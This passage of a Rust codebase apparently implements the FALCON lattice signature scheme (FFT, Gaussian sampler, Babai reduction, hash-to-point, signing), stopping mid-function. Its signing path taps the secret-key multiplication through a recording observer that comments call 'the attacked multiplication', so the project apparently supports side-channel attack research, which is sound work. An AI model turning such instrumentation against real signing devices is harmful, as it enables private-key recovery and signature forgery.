            let n = 1usize << logn;
            let orig: Vec<Fpr> =
                (0..n).map(|i| Fpr::from_i64((i as i64 * 37 % 257) - 128)).collect();
            let mut f = orig.clone();
            fft(&mut f);
            ifft(&mut f);
            for (a, b) in f.iter().zip(orig.iter()) {
                assert!(
                    close(a.to_f64(), b.to_f64(), 1e-12),
                    "logn={logn}: {} vs {}",
                    a.to_f64(),
                    b.to_f64()
                );
            }
        }
    }

    #[allow(clippy::needless_range_loop)] // (i, j) are polynomial exponents
    fn schoolbook_negacyclic(a: &[f64], b: &[f64]) -> Vec<f64> {
        let n = a.len();
        let mut r = vec![0.0; n];
        for i in 0..n {
            for j in 0..n {
                let k = (i + j) % n;
                let s = if i + j >= n { -1.0 } else { 1.0 };
                r[k] += s * a[i] * b[j];
            }
        }
        r
    }

    #[test]
    fn pointwise_product_is_negacyclic_convolution() {
        for logn in [1u32, 2, 4, 6] {
            let n = 1usize << logn;
            let a: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64((i as i64 * 7 % 23) - 11)).collect();
            let b: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64((i as i64 * 5 % 17) - 8)).collect();
            let want = schoolbook_negacyclic(&to_f64s(&a), &to_f64s(&b));
            let mut fa = a.clone();
            let mut fb = b.clone();
            fft(&mut fa);
            fft(&mut fb);
            poly_mul_fft(&mut fa, &fb);
            ifft(&mut fa);
            for (got, want) in fa.iter().zip(want.iter()) {
                assert!(close(got.to_f64(), *want, 1e-9), "logn={logn}");
            }
        }
    }

    #[test]
    fn split_merge_roundtrip() {
        for logn in 1..=7u32 {
            let n = 1usize << logn;
            let mut f: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64(i as i64 - 3)).collect();
            fft(&mut f);
            let (f0, f1) = poly_split_fft(&f);
            let g = poly_merge_fft(&f0, &f1);
            for (a, b) in f.iter().zip(g.iter()) {
                assert!(close(a.to_f64(), b.to_f64(), 1e-12), "logn={logn}");
            }
        }
    }

    #[test]
    fn split_matches_coefficient_parity() {
        // split(FFT(f)) must equal (FFT(f_even), FFT(f_odd)).
        let n = 16usize;
        let coeffs: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64((i * i) as i64 % 13 - 6)).collect();
        let mut f = coeffs.clone();
        fft(&mut f);
        let (s0, s1) = poly_split_fft(&f);

        let mut e: Vec<Fpr> = coeffs.iter().step_by(2).copied().collect();
        let mut o: Vec<Fpr> = coeffs.iter().skip(1).step_by(2).copied().collect();
        fft(&mut e);
        fft(&mut o);
        for (a, b) in s0.iter().zip(e.iter()).chain(s1.iter().zip(o.iter())) {
            assert!(close(a.to_f64(), b.to_f64(), 1e-12));
        }
    }

    #[test]
    fn adjoint_is_reversal_with_negation() {
        // adj(f)(x) = f(1/x): coefficients (f0, -f_{n-1}, ..., -f_1).
        let n = 8usize;
        let coeffs: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64(i as i64 + 1)).collect();
        let mut f = coeffs.clone();
        fft(&mut f);
        poly_adj_fft(&mut f);
        ifft(&mut f);
        assert!(close(f[0].to_f64(), coeffs[0].to_f64(), 1e-12));
        for i in 1..n {
            assert!(close(f[i].to_f64(), -coeffs[n - i].to_f64(), 1e-12), "i={i}");
        }
    }

    #[test]
    fn observed_mul_matches_plain() {
        use falcon_fpr::RecordingObserver;
        let n = 8usize;
        let mut a: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64(i as i64 - 4)).collect();
        let b: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64(2 * i as i64 + 1)).collect();
        fft(&mut a);
        let mut bf = b.clone();
        fft(&mut bf);
        let mut plain = a.clone();
        poly_mul_fft(&mut plain, &bf);
        let mut obs = RecordingObserver::new();
        let mut traced = a.clone();
        poly_mul_fft_observed(&mut traced, &bf, &mut obs);
        assert_eq!(plain, traced);
        // 4 real multiplications per complex coefficient, 14 steps each.
        assert_eq!(obs.steps.len(), (n / 2) * 4 * 14);
        assert_eq!(obs.boundaries.len(), (n / 2) * 4);
    }

    #[test]
    fn div_and_selfadj() {
        let n = 8usize;
        let mut a: Vec<Fpr> = (0..n).map(|i| Fpr::from_i64(i as i64 + 2)).collect();
        fft(&mut a);
        let b = a.clone();
        let mut c = a.clone();
        poly_div_fft(&mut c, &b);
        let hn = n / 2;
        for j in 0..hn {
            assert!(close(at(&c, j).re.to_f64(), 1.0, 1e-12));
            assert!(close(at(&c, j).im.to_f64(), 0.0, 1e-12));
        }
        let mut d = a.clone();
        poly_mulselfadj_fft(&mut d);
        for j in 0..hn {
            assert!(at(&d, j).re.to_f64() >= 0.0);
            assert_eq!(at(&d, j).im, Fpr::ZERO);
        }
    }
}
