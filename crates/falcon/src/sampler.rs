//! Discrete Gaussian sampling over the integers (`SamplerZ`).
//!
//! FALCON's trapdoor sampler needs Gaussians with per-call centers and
//! standard deviations `σ' ∈ [σ_min, σ_max]`. The construction follows
//! the specification: a half-Gaussian base sampler with `σ0 = 1.8205`
//! realised by a reverse cumulative distribution table (RCDT) over 72-bit
//! randomness, turned bimodal with a random sign, then corrected to the
//! target parameters by rejection with the Bernoulli-exponential test
//! `BerExp` built on [`Fpr::expm_p63`].
//!
//! The RCDT is computed at startup from `f64` tail sums rather than
//! copied from the reference implementation's 72-bit constants; the
//! ≈2^-53 table inaccuracy is far below the sampler's statistical
//! tolerance (documented substitution, DESIGN.md §7).

use crate::rng::Prng;
use falcon_fpr::{Fpr, INV_2SQRSIGMA0, INV_LN2, LN2};
use std::sync::OnceLock;

/// Number of RCDT entries (tail beyond z = 17 is below 2^-75).
const RCDT_LEN: usize = 18;

fn rcdt() -> &'static [u128; RCDT_LEN] {
    static TABLE: OnceLock<[u128; RCDT_LEN]> = OnceLock::new();
    // ct: allow(one-time RCDT table build; sequential spec-order fold)
    TABLE.get_or_init(|| {
        let sigma0 = 1.8205f64;
        let weights: Vec<f64> = (0..RCDT_LEN + 24)
            .map(|k| (-((k * k) as f64) / (2.0 * sigma0 * sigma0)).exp())
            .collect();
        let total: f64 = weights.iter().sum();
        let mut table = [0u128; RCDT_LEN];
        let scale = 2f64.powi(72);
        // table[i] = round(2^72 · P(z > i)) for the half-Gaussian.
        let mut tail: f64 = weights[RCDT_LEN..].iter().sum();
        for i in (0..RCDT_LEN).rev() {
            table[i] = (tail / total * scale).round() as u128;
            tail += weights[i];
        }
        table
    })
}

/// Base sampler: half-Gaussian with `σ0 = 1.8205` over `z ≥ 0`.
pub fn gaussian0(rng: &mut Prng) -> i64 {
    let mut bytes = [0u8; 9];
    rng.fill(&mut bytes);
    // The drawn randomness and everything derived from it is secret:
    // the sampled value feeds the signature's short vector. The table
    // scan visits every RCDT entry with a branch-free accumulate.
    // ct: secret(bytes, v, z)
    let mut v: u128 = 0;
    for &b in &bytes {
        v = (v << 8) | b as u128;
    }
    let mut z = 0i64;
    for &t in rcdt().iter() {
        z += i64::from(v < t);
    }
    z
    // ct: end
}

/// Bernoulli trial with probability `ccs · exp(−x)` (for `x ≥ 0`).
pub fn ber_exp(rng: &mut Prng, x: Fpr, ccs: Fpr) -> bool {
    // ct: secret(x, ccs)
    // Split x = s·ln2 + r with r in [0, ln2).
    let s = (x * INV_LN2).trunc();
    let r = x - Fpr::from_i64(s) * LN2;
    let s = s.min(63) as u32;
    // z ≈ 2^64 · ccs · exp(−x), minus one ulp to keep the comparison
    // sound when the value would be exactly 2^64.
    let z = ((x_expm(r, ccs) << 1).wrapping_sub(1)) >> s;
    // Lazy bytewise comparison of a uniform 64-bit value against z.
    // Each extra iteration happens only when a fresh uniform byte
    // exactly matches the corresponding byte of z (probability 2^-8),
    // matching the reference implementation's BerExp loop.
    let mut i = 64i32;
    loop {
        i -= 8;
        let w = rng.next_u8() as i32 - ((z >> i) & 0xFF) as i32;
        // ct: allow(reference-matching lazy comparison, early exit taken with probability 255/256 per fresh random byte)
        if w != 0 || i == 0 {
            return w < 0;
        }
    }
    // ct: end
}

#[inline]
fn x_expm(r: Fpr, ccs: Fpr) -> u64 {
    r.expm_p63(ccs)
}

/// Samples from the discrete Gaussian `D_{Z, σ', μ}`.
///
/// `isigma = 1/σ'` and `sigma_min` must satisfy
/// `σ_min ≤ σ' ≤ σ_max = 1.8205`.
pub fn sampler_z(rng: &mut Prng, mu: Fpr, isigma: Fpr, sigma_min: Fpr) -> i64 {
    // The center and width are key-derived; the candidate z and the
    // base-sampler draw z0 are secret until a candidate is accepted.
    // ct: secret(mu, isigma, z0, b, z)
    // Split the center: mu = s + r, r in [0, 1).
    let s = mu.floor();
    let r = mu - Fpr::from_i64(s);
    // dss = 1/(2σ'²), ccs = σ_min/σ' (acceptance normalisation).
    let dss = isigma.sqr().half();
    let ccs = isigma * sigma_min;
    loop {
        let z0 = gaussian0(rng);
        let b = (rng.next_u8() & 1) as i64;
        let z = b + (2 * b - 1) * z0;
        // x = (z − r)²/(2σ'²) − z0²/(2σ0²)
        let zf = Fpr::from_i64(z);
        let d = zf - r;
        let x = d.sqr() * dss - Fpr::from_i64(z0 * z0) * INV_2SQRSIGMA0;
        // ct: allow(rejection sampling, the accept/reject loop is the specified sampler construction)
        if ber_exp(rng, x, ccs) {
            return s + z;
        }
    }
    // ct: end
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rcdt_is_decreasing_and_bounded() {
        let t = rcdt();
        for w in t.windows(2) {
            assert!(w[0] > w[1]);
        }
        assert!(t[0] < 1u128 << 72);
        assert!(t[RCDT_LEN - 1] < 1u128 << 16);
    }

    #[test]
    fn gaussian0_moments() {
        let mut rng = Prng::from_seed(b"gaussian0 test");
        let n = 200_000;
        let mut sum = 0f64;
        let mut sum_sq = 0f64;
        for _ in 0..n {
            let z = gaussian0(&mut rng) as f64;
            assert!((0.0..18.0).contains(&z));
            sum += z;
            sum_sq += z * z;
        }
        // Discrete half-Gaussian with sigma0 = 1.8205 (full weight at 0):
        // E[z] = 1.1610, E[z²] = 2.7185 (exact tail sums).
        let mean = sum / n as f64;
        let second = sum_sq / n as f64;
        assert!((mean - 1.1610).abs() < 0.02, "mean={mean}");
        assert!((second - 2.7185).abs() < 0.05, "E[z²]={second}");
    }

    #[test]
    fn ber_exp_rates() {
        let mut rng = Prng::from_seed(b"berexp");
        for (x, want) in [(0.0f64, 1.0f64), (0.5, (-0.5f64).exp()), (2.0, (-2f64).exp())] {
            let n = 100_000;
            let mut acc = 0u32;
            for _ in 0..n {
                if ber_exp(&mut rng, Fpr::from(x), Fpr::ONE) {
                    acc += 1;
                }
            }
            let rate = acc as f64 / n as f64;
            assert!((rate - want).abs() < 0.01, "x={x}: rate={rate} want={want}");
        }
    }

    #[test]
    fn sampler_z_statistics() {
        let mut rng = Prng::from_seed(b"samplerz");
        let sigma = 1.5f64;
        let mu = 0.3f64;
        let isigma = Fpr::from(1.0 / sigma);
        let smin = Fpr::from(1.2778336969128337);
        let n = 100_000;
        let mut sum = 0f64;
        let mut sum_sq = 0f64;
        for _ in 0..n {
            let z = sampler_z(&mut rng, Fpr::from(mu), isigma, smin) as f64;
            sum += z;
            sum_sq += z * z;
        }
        let mean = sum / n as f64;
        let var = sum_sq / n as f64 - mean * mean;
        assert!((mean - mu).abs() < 0.02, "mean={mean}");
        assert!((var - sigma * sigma).abs() < 0.08, "var={var}");
    }

    #[test]
    fn sampler_z_respects_shifted_centers() {
        let mut rng = Prng::from_seed(b"samplerz shift");
        for mu in [-7.75f64, -0.5, 12.25, 100.0] {
            let mut sum = 0f64;
            let n = 20_000;
            for _ in 0..n {
                sum +=
                    sampler_z(&mut rng, Fpr::from(mu), Fpr::from(1.0 / 1.7), Fpr::from(1.2)) as f64;
            }
            let mean = sum / n as f64;
            assert!((mean - mu).abs() < 0.06, "mu={mu} mean={mean}");
        }
    }
}
