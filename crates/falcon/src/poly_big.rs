//! Polynomials over arbitrary-precision integers, and the Babai size
//! reduction used by the NTRU equation solver.
//!
//! Everything here lives in `Z[x]/(x^m + 1)` for power-of-two `m`. The
//! solver's tower descent uses the Galois conjugate `f(−x)` and the field
//! norm `N(f)(x²) = f(x)·f(−x)`; the ascent lifts solutions and reduces
//! their size with approximate Babai nearest-plane steps computed in
//! `f64` FFT precision (key-generation internals only — the signing path
//! never touches host floats).

use crate::zint::Zint;

/// A polynomial with [`Zint`] coefficients (length is the ring degree).
pub type PolyZ = Vec<Zint>;

/// Builds a big-integer polynomial from machine integers.
pub fn poly_from_i64(v: &[i64]) -> PolyZ {
    v.iter().map(|&c| Zint::from_i64(c)).collect()
}

/// Elementwise `a + b`.
pub fn add(a: &[Zint], b: &[Zint]) -> PolyZ {
    a.iter().zip(b).map(|(x, y)| x.add(y)).collect()
}

/// Elementwise `a - b`.
pub fn sub(a: &[Zint], b: &[Zint]) -> PolyZ {
    a.iter().zip(b).map(|(x, y)| x.sub(y)).collect()
}

/// Negacyclic product in `Z[x]/(x^m + 1)` (schoolbook; the solver's
/// operand sizes keep this comfortably fast, see DESIGN.md §7).
pub fn mul(a: &[Zint], b: &[Zint]) -> PolyZ {
    let m = a.len();
    debug_assert_eq!(b.len(), m);
    let mut r = vec![Zint::zero(); m];
    for (i, x) in a.iter().enumerate() {
        if x.is_zero() {
            continue;
        }
        for (j, y) in b.iter().enumerate() {
            if y.is_zero() {
                continue;
            }
            let p = x.mul(y);
            let k = (i + j) % m;
            if i + j >= m {
                r[k] = r[k].sub(&p);
            } else {
                r[k] = r[k].add(&p);
            }
        }
    }
    r
}

/// The Galois conjugate `f(−x)`: negates odd-index coefficients.
pub fn galois_conjugate(f: &[Zint]) -> PolyZ {
    f.iter().enumerate().map(|(i, c)| if i % 2 == 1 { c.negated() } else { c.clone() }).collect()
}

/// The field norm `N(f)` relative to the subring `Z[y]/(y^{m/2}+1)`,
/// `y = x²`: with `f(x) = fe(x²) + x·fo(x²)`,
/// `N(f)(y) = fe(y)² − y·fo(y)²`.
#[allow(clippy::needless_range_loop)] // the negacyclic wrap uses the index
pub fn field_norm(f: &[Zint]) -> PolyZ {
    let m = f.len();
    debug_assert!(m >= 2 && m.is_power_of_two());
    let h = m / 2;
    let fe: PolyZ = f.iter().step_by(2).cloned().collect();
    let fo: PolyZ = f.iter().skip(1).step_by(2).cloned().collect();
    let fe2 = mul(&fe, &fe);
    let fo2 = mul(&fo, &fo);
    // y·fo(y)² in Z[y]/(y^h+1): multiply by y = shift with negacyclic wrap.
    let mut shifted = vec![Zint::zero(); h];
    for i in 0..h {
        let j = (i + 1) % h;
        shifted[j] = if i + 1 >= h { fo2[i].negated() } else { fo2[i].clone() };
    }
    sub(&fe2, &shifted)
}

/// Injects `p(y)` into `Z[x]/(x^{2m}+1)` as `p(x²)` (zero-interleaved).
pub fn lift(p: &[Zint]) -> PolyZ {
    let mut out = vec![Zint::zero(); 2 * p.len()];
    for (i, c) in p.iter().enumerate() {
        out[2 * i] = c.clone();
    }
    out
}

/// Maximum coefficient bit length.
pub fn max_bits(p: &[Zint]) -> u32 {
    p.iter().map(Zint::bits).max().unwrap_or(0)
}

// ---------------------------------------------------------------------
// f64 complex FFT (key-generation internals).
// ---------------------------------------------------------------------

/// Complex number over `f64` for the Babai reduction.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub(crate) struct C64 {
    pub re: f64,
    pub im: f64,
}

impl C64 {
    fn new(re: f64, im: f64) -> C64 {
        C64 { re, im }
    }
    fn add(self, o: C64) -> C64 {
        C64::new(self.re + o.re, self.im + o.im)
    }
    fn sub(self, o: C64) -> C64 {
        C64::new(self.re - o.re, self.im - o.im)
    }
    fn mul(self, o: C64) -> C64 {
        C64::new(self.re * o.re - self.im * o.im, self.re * o.im + self.im * o.re)
    }
    fn conj(self) -> C64 {
        C64::new(self.re, -self.im)
    }
    fn scale(self, s: f64) -> C64 {
        C64::new(self.re * s, self.im * s)
    }
    pub fn norm_sq(self) -> f64 {
        self.re * self.re + self.im * self.im
    }
}

fn root64(m: usize, j: usize) -> C64 {
    let ang = core::f64::consts::PI * (2 * j + 1) as f64 / m as f64;
    C64::new(ang.cos(), ang.sin())
}

/// FFT of a real `f64` polynomial at the `m/2` upper roots of `x^m + 1`
/// (same convention as the `Fpr` FFT in [`crate::fft`]).
pub(crate) fn fft64(coeffs: &[f64]) -> Vec<C64> {
    let m = coeffs.len();
    if m == 1 {
        // Degree-1 ring Z[x]/(x+1): evaluation at -1 is the constant.
        return vec![C64::new(coeffs[0], 0.0)];
    }
    if m == 2 {
        return vec![C64::new(coeffs[0], coeffs[1])];
    }
    let e: Vec<f64> = coeffs.iter().step_by(2).copied().collect();
    let o: Vec<f64> = coeffs.iter().skip(1).step_by(2).copied().collect();
    let ge = fft64(&e);
    let go = fft64(&o);
    let hm = m / 2;
    let mut out = vec![C64::default(); hm];
    for j in 0..m / 4 {
        let z = root64(m, j);
        out[j] = ge[j].add(z.mul(go[j]));
        let k = hm - 1 - j;
        out[k] = ge[j].conj().add(root64(m, k).mul(go[j].conj()));
    }
    out
}

fn ifft64(vals: &[C64]) -> Vec<f64> {
    let hm = vals.len();
    let m = 2 * hm;
    if m == 2 {
        return vec![vals[0].re, vals[0].im];
    }
    let qm = m / 4;
    let mut ge = vec![C64::default(); qm];
    let mut go = vec![C64::default(); qm];
    for j in 0..qm {
        let a = vals[j];
        let b = vals[hm - 1 - j].conj();
        ge[j] = a.add(b).scale(0.5);
        go[j] = a.sub(b).scale(0.5).mul(root64(m, j).conj());
    }
    let e = ifft64(&ge);
    let o = ifft64(&go);
    let mut out = vec![0.0; m];
    for i in 0..hm {
        out[2 * i] = e[i];
        out[2 * i + 1] = o[i];
    }
    out
}

/// Scales every coefficient by `2^-shift` and converts to `f64`.
fn to_f64_scaled(p: &[Zint], shift: u32) -> Vec<f64> {
    p.iter()
        .map(|c| {
            let (m, e) = c.to_f64_exp();
            m * 2f64.powi(e - shift as i32)
        })
        .collect()
}

/// Babai size reduction: repeatedly subtracts `k·(f, g)` from `(capf,
/// capg)` with `k = ⌈(F·f̄ + G·ḡ)/(f·f̄ + g·ḡ)⌋` computed in scaled `f64`
/// FFT precision, until the quotient rounds to zero or the operands are
/// no larger than `(f, g)`.
pub fn babai_reduce(f: &[Zint], g: &[Zint], capf: &mut PolyZ, capg: &mut PolyZ) {
    let m = f.len();
    if m == 1 {
        babai_reduce_scalar(&f[0], &g[0], &mut capf[0], &mut capg[0]);
        return;
    }
    let base = 53u32.max(max_bits(f)).max(max_bits(g));
    let fa = fft64(&to_f64_scaled(f, base - 53));
    let ga = fft64(&to_f64_scaled(g, base - 53));
    let den: Vec<f64> = fa.iter().zip(&ga).map(|(x, y)| x.norm_sq() + y.norm_sq()).collect();
    if den.iter().any(|&d| d <= 0.0 || !d.is_finite()) {
        return; // degenerate basis; caller's verification will reject
    }
    // Iterate until the quotient rounds to zero everywhere or (F, G)
    // drop below the scale of (f, g), with a generous round cap as a
    // termination backstop. Unlike a coarse stop-above-the-base-size
    // rule, the final rounds at `size == base` polish (F, G) all the way
    // down to the true Babai remainder, whose coefficients are on the
    // scale of (f, g) — the key encoding's 8-bit field relies on that.
    for _round in 0..256 {
        let size = 53u32.max(max_bits(capf)).max(max_bits(capg));
        if size < base {
            break;
        }
        let shift = size - 53;
        let fc = fft64(&to_f64_scaled(capf, shift));
        let gc = fft64(&to_f64_scaled(capg, shift));
        // k̂ = (F̂ f̄ + Ĝ ḡ) / (f f̄ + g ḡ)
        let khat: Vec<C64> = (0..fc.len())
            .map(|j| fc[j].mul(fa[j].conj()).add(gc[j].mul(ga[j].conj())).scale(1.0 / den[j]))
            .collect();
        let kf = ifft64(&khat);
        let k: Vec<i64> = kf
            .iter()
            .map(|&v| {
                if v.is_finite() {
                    v.round().clamp(-(2f64.powi(62)), 2f64.powi(62)) as i64
                } else {
                    0
                }
            })
            .collect();
        if k.iter().all(|&v| v == 0) {
            break;
        }
        let kz: PolyZ = k.iter().map(|&v| Zint::from_i64(v)).collect();
        let up = size - base;
        let df = mul(&kz, f);
        let dg = mul(&kz, g);
        let mut progressed = false;
        for i in 0..m {
            let nf = capf[i].sub(&df[i].shl(up));
            let ng = capg[i].sub(&dg[i].shl(up));
            if nf != capf[i] || ng != capg[i] {
                progressed = true;
            }
            capf[i] = nf;
            capg[i] = ng;
        }
        if !progressed {
            break;
        }
    }
}

/// Degree-1 case of the Babai reduction: plain integer nearest rounding
/// of `(F·f + G·g)/(f² + g²)`.
fn babai_reduce_scalar(f: &Zint, g: &Zint, capf: &mut Zint, capg: &mut Zint) {
    let base = 53u32.max(f.bits()).max(g.bits());
    for _round in 0..256 {
        let size = 53u32.max(capf.bits()).max(capg.bits());
        if size < base {
            break;
        }
        let shift = size - 53;
        let scale = |z: &Zint, sh: u32| -> f64 {
            let (mant, e) = z.to_f64_exp();
            mant * 2f64.powi(e - sh as i32)
        };
        let fa = scale(f, base - 53);
        let ga = scale(g, base - 53);
        let den = fa * fa + ga * ga;
        if den <= 0.0 || !den.is_finite() {
            return;
        }
        let num = scale(capf, shift) * fa + scale(capg, shift) * ga;
        let k = (num / den).round();
        if k == 0.0 || !k.is_finite() {
            break;
        }
        let kz = Zint::from_i64(k.clamp(-(2f64.powi(62)), 2f64.powi(62)) as i64);
        let up = size - base;
        let nf = capf.sub(&kz.mul(f).shl(up));
        let ng = capg.sub(&kz.mul(g).shl(up));
        if nf == *capf && ng == *capg {
            break;
        }
        *capf = nf;
        *capg = ng;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(v: &[i64]) -> PolyZ {
        poly_from_i64(v)
    }

    fn as_i64(v: &PolyZ) -> Vec<i64> {
        v.iter().map(|c| c.to_i64().expect("fits i64")).collect()
    }

    #[test]
    fn negacyclic_multiplication() {
        // (1 + x)(1 + x) = 1 + 2x + x² in Z[x]/(x²+1) → (1 - 1) + 2x.
        let r = mul(&p(&[1, 1]), &p(&[1, 1]));
        assert_eq!(as_i64(&r), vec![0, 2]);
        // x · x = x² = -1 in Z[x]/(x²+1).
        let r = mul(&p(&[0, 1]), &p(&[0, 1]));
        assert_eq!(as_i64(&r), vec![-1, 0]);
    }

    #[test]
    fn galois_conjugate_negates_odd() {
        assert_eq!(as_i64(&galois_conjugate(&p(&[1, 2, 3, 4]))), vec![1, -2, 3, -4]);
    }

    #[test]
    fn field_norm_is_f_times_conjugate() {
        // N(f)(x²) must equal f(x)·f(−x) for several small polys.
        for f in [[3i64, 1, 4, 1], [-2, 7, 0, 5], [1, 0, 0, 0]] {
            let fp = p(&f);
            let n = field_norm(&fp);
            let direct = mul(&fp, &galois_conjugate(&fp));
            // direct has only even-index coefficients; they must match N(f).
            for i in 0..fp.len() {
                if i % 2 == 0 {
                    assert_eq!(direct[i], n[i / 2], "even coeff {i}");
                } else {
                    assert!(direct[i].is_zero(), "odd coeff {i} nonzero");
                }
            }
        }
    }

    #[test]
    fn lift_interleaves_zeros() {
        assert_eq!(as_i64(&lift(&p(&[5, -7]))), vec![5, 0, -7, 0]);
    }

    #[test]
    fn fft64_roundtrip() {
        let coeffs = vec![1.0, -2.0, 3.5, 0.25, -1.0, 0.0, 2.0, 9.0];
        let back = ifft64(&fft64(&coeffs));
        for (a, b) in coeffs.iter().zip(back.iter()) {
            assert!((a - b).abs() < 1e-12);
        }
    }

    #[test]
    fn babai_reduces_size() {
        // Construct a deliberately huge (F, G) = (F0 + K·f, G0 + K·g) and
        // check the reduction strips the K·(f,g) component back down.
        let f = p(&[3, 1, -2, 5]);
        let g = p(&[1, -4, 2, 2]);
        // K far beyond the 53-bit float window that the reduction targets.
        let k: PolyZ = p(&[7, -5, 3, 11]).iter().map(|c| c.shl(90)).collect();
        let f0 = p(&[2, 0, 1, -1]);
        let g0 = p(&[0, 1, 1, 3]);
        let mut capf = add(&f0, &mul(&k, &f));
        let mut capg = add(&g0, &mul(&k, &g));
        let before = max_bits(&capf).max(max_bits(&capg));
        babai_reduce(&f, &g, &mut capf, &mut capg);
        let after = max_bits(&capf).max(max_bits(&capg));
        assert!(after < before, "no reduction: {before} -> {after}");
        assert!(after <= 53, "not fully reduced: {after}");
    }
}
