//! Hash-to-point: mapping `(salt ‖ message)` to a polynomial modulo `q`.

use crate::params::Q;
use crate::shake::Shake256;

/// Hashes `salt ‖ msg` to `n` coefficients in `[0, q)`, by SHAKE256
/// rejection sampling of big-endian 16-bit words below `5·q = 61445`
/// (the reference implementation's `hash_to_point_vartime`).
///
/// ```
/// use falcon_sig::hash::hash_to_point;
/// let c = hash_to_point(&[0u8; 40], b"msg", 64);
/// assert_eq!(c.len(), 64);
/// assert!(c.iter().all(|&v| v < 12289));
/// ```
pub fn hash_to_point(salt: &[u8], msg: &[u8], n: usize) -> Vec<u16> {
    let mut xof = Shake256::new();
    xof.absorb(salt);
    xof.absorb(msg);
    let mut out = Vec::with_capacity(n);
    while out.len() < n {
        let w = xof.squeeze_u16_be();
        if w < 5 * Q as u16 {
            out.push(w % Q as u16);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_salt_sensitive() {
        let a = hash_to_point(&[1u8; 40], b"hello", 128);
        let b = hash_to_point(&[1u8; 40], b"hello", 128);
        let c = hash_to_point(&[2u8; 40], b"hello", 128);
        let d = hash_to_point(&[1u8; 40], b"hellp", 128);
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_ne!(a, d);
    }

    #[test]
    fn output_is_roughly_uniform() {
        let c = hash_to_point(&[7u8; 40], b"uniformity probe", 4096);
        let mean: f64 = c.iter().map(|&v| v as f64).sum::<f64>() / c.len() as f64;
        // Uniform over [0, q): mean ≈ q/2 = 6144 with stderr ≈ 55.
        assert!((mean - 6144.0).abs() < 300.0, "mean={mean}");
        assert!(c.iter().all(|&v| v < Q as u16));
    }

    #[test]
    fn split_of_salt_and_message_matters() {
        // Domain layout is salt ‖ msg as a plain concatenation, matching
        // the specification.
        let a = hash_to_point(b"ab", b"c", 16);
        let b = hash_to_point(b"a", b"bc", 16);
        assert_eq!(a, b);
    }
}
