//! Signature generation (the paper's Algorithm 2).

use crate::codec::compress;
use crate::ffsampling::ff_sampling;
use crate::fft::{
    fft, ifft, poly_add, poly_mul_fft, poly_mul_fft_observed, poly_mulconst, poly_neg, poly_sub,
};
use crate::hash::hash_to_point;
use crate::keygen::SigningKey;
use crate::params::{LogN, SALT_LEN};
use crate::poly::norm_sq;
use crate::rng::Prng;
use falcon_fpr::{Fpr, MulObserver};

/// A FALCON signature: the salt `r` and the compressed short vector `s2`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Signature {
    logn: LogN,
    salt: [u8; SALT_LEN],
    s2: Vec<i16>,
    encoded: Vec<u8>,
}

impl Signature {
    /// The parameter set this signature was produced under.
    pub fn logn(&self) -> LogN {
        self.logn
    }

    /// The random salt `r`.
    pub fn salt(&self) -> &[u8; SALT_LEN] {
        &self.salt
    }

    /// The signed short polynomial `s2` in coefficient form.
    pub fn s2(&self) -> &[i16] {
        &self.s2
    }

    /// The full wire encoding: header byte, salt, compressed `s2`
    /// (fixed length [`LogN::sig_bytes`]).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.logn.sig_bytes());
        out.push(0x30 | self.logn.logn() as u8);
        out.extend_from_slice(&self.salt);
        out.extend_from_slice(&self.encoded);
        out
    }

    /// Parses a wire encoding back into a signature.
    pub fn from_bytes(bytes: &[u8]) -> Option<Signature> {
        let (&header, rest) = bytes.split_first()?;
        if header & 0xF0 != 0x30 {
            return None;
        }
        let logn = LogN::new((header & 0x0F) as u32)?;
        if bytes.len() != logn.sig_bytes() {
            return None;
        }
        let salt: [u8; SALT_LEN] = rest[..SALT_LEN].try_into().ok()?;
        let encoded = rest[SALT_LEN..].to_vec();
        let s2 = crate::codec::decompress(&encoded, logn.n())?;
        Some(Signature { logn, salt, s2, encoded })
    }

    /// Builds a signature object from raw parts (used by verification
    /// tests and the attack's forgery path); returns `None` when `s2`
    /// does not fit the fixed encoding length.
    pub fn from_parts(logn: LogN, salt: [u8; SALT_LEN], s2: Vec<i16>) -> Option<Signature> {
        let encoded = compress(&s2, logn.s2_bytes())?;
        Some(Signature { logn, salt, s2, encoded })
    }
}

/// Shared signing core; `obs` taps the `FFT(c) ⊙ FFT(f)` multiplication.
pub(crate) fn sign_inner<O: MulObserver>(
    sk: &SigningKey,
    msg: &[u8],
    rng: &mut Prng,
    obs: &mut O,
) -> Signature {
    loop {
        let mut salt = [0u8; SALT_LEN];
        rng.fill(&mut salt);
        if let Some(sig) = sign_with_salt(sk, msg, salt, rng, obs) {
            return sig;
        }
    }
}

/// One outer iteration of Algorithm 2 with a fixed salt; `None` when the
/// compressed signature does not fit (caller picks a fresh salt).
pub fn sign_with_salt<O: MulObserver>(
    sk: &SigningKey,
    msg: &[u8],
    salt: [u8; SALT_LEN],
    rng: &mut Prng,
    obs: &mut O,
) -> Option<Signature> {
    let logn = sk.logn();
    let n = logn.n();
    let c = hash_to_point(&salt, msg, n);

    // FFT(c).
    let mut c_fft: Vec<Fpr> = c.iter().map(|&v| Fpr::from_i64(v as i64)).collect();
    fft(&mut c_fft);

    let inv_q = Fpr::from_i64(crate::params::Q as i64).inv();

    // t1 = (1/q)·FFT(c) ⊙ FFT(f)  — the attacked multiplication; the
    // secret operand comes first so the observer indexes FFT(f).
    // ct: secret(sk, t1, t0)
    let mut t1 = sk.f_fft.clone();
    poly_mul_fft_observed(&mut t1, &c_fft, obs);
    poly_mulconst(&mut t1, inv_q);

    // t0 = −(1/q)·FFT(c) ⊙ FFT(F).
    let mut t0 = sk.capf_fft.clone();
    poly_mul_fft(&mut t0, &c_fft);
    poly_mulconst(&mut t0, inv_q);
    poly_neg(&mut t0);

    let sigma_min = Fpr::from(logn.sigma_min());
    let bound = logn.l2_bound();

    // Inner loop: resample until the candidate is short enough.
    for _attempt in 0..64 {
